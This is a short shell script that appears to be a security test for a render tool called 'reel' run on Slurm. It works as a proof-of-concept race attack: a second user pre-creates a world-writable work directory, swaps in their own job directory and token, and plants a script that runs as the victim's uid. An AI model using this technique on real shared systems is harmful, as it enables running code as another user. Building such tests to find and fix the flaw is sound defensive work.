. /tmp/fs/case.sh
# a work directory that somebody else has made beforehand
new foreign; chmod 755 $D $FAKE; chmod -R 777 $FAKE $D/film; chmod 1777 $D/film
setpriv --reuid 1234 --clear-groups mkdir -m 777 .film.mp4.reel
touch hold-3
setpriv --reuid 5 --regid 60 --clear-groups env HOME=/tmp $B/reel render scene.py:draw --segment 1s -o film.mp4 --on slurm --task-cores 1 --json </dev/null >$D/out 2>&1 & p=$!
for i in $(seq 100); do C=$(ls -d .film.mp4.reel/cluster-* 2>/dev/null); [ -n "$C" ] && [ -e $C/script ] && [ -e $C/job ] && break; sleep 0.02; done
ls -ld .film.mp4.reel; T=$(basename $C)
# user 1234: the token is in everybody's squeue; takes the campaign's place
setpriv --reuid 1234 --clear-groups sh -c "mv .film.mp4.reel/$T .film.mp4.reel/x && mkdir -m 777 .film.mp4.reel/$T && printf %s ${T#cluster-} > .film.mp4.reel/$T/token && printf '#!/bin/sh\nid -u > /tmp/fs/owned; chmod 666 /tmp/fs/owned\n' > .film.mp4.reel/$T/script; chmod 755 .film.mp4.reel/$T/script"
sleep 4; kill $p; wait $p; echo "FOREIGN: the attacker's script ran as uid $(cat /tmp/fs/owned)"; tail -c 300 $D/out
